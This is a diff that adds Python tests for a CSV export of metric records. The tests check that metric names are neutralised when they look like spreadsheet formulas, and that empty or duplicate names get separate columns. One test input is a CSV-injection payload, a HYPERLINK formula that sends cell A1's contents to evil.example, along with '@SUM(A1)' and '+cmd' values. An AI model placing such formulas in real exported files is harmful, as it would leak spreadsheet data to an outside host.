@@ -121,3 +121,56 @@ def test_an_audit_log_that_cannot_be_opened_names_the_setting() -> None:
     assert raised.value.setting == "alerting.audit_log"
     assert raised.value.found == "/proc/audit.log"
     assert "nothing was decrypted" in str(raised.value)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
+
+
+def header_of(rows: list[dict[str, object]]) -> list[str]:
+    return next(csv.reader(io.StringIO(_csv(rows))))
+
+
+def test_a_metric_named_like_a_formula_is_no_formula_in_the_header() -> None:
+    rows = [
+        {
+            "partition": 0,
+            "offset": 1,
+            "values": {FORMULA: 1.0, "@SUM(A1)": 2.0},
+            "bands": {FORMULA: "0-9"},
+            "sealed": {FORMULA: "vs1.k.t"},
+            "clear": {"+cmd": "x"},
+            "error": None,
+        }
+    ]
+    header = header_of(rows)
+    assert not [cell for cell in header if cell[:1] in ("=", "+", "-", "@")]
+    table = list(csv.DictReader(io.StringIO(_csv(rows))))
+    shown = '"=HYPERLINK(\\"http://evil.example/\\"&A1)"'  # as a JSON string
+    assert table[0][shown] == "1.0"
+    assert table[0][f"{shown}.band"] == "0-9"
+    assert table[0]['"@SUM(A1)"'] == "2.0"
+    assert table[0]['clear."+cmd"'] == "x"
+
+
+def test_an_empty_or_clashing_metric_name_gets_a_column_of_its_own() -> None:
+    rows = [
+        {
+            "partition": 0,
+            "offset": 1,
+            "subject": "sbj_a",
+            "values": {"": 5.0, "subject": 6.0, "spo2": 97.0, "spo2.band": 7.0},
+            "bands": {"spo2": "96-100"},
+            "clear": {"": "c"},
+            "error": None,
+        }
+    ]
+    header = header_of(rows)
+    assert "" not in header
+    assert len(header) == len(set(header))
+    (row,) = csv.DictReader(io.StringIO(_csv(rows)))
+    assert row['""'] == "5.0"
+    assert row["subject"] == "sbj_a"  # the fixed column keeps its value
+    assert row['"subject"'] == "6.0"
+    assert row["spo2.band"] == "96-100"
+    assert row['"spo2.band"'] == "7.0"
+    assert row['clear.""'] == "c"
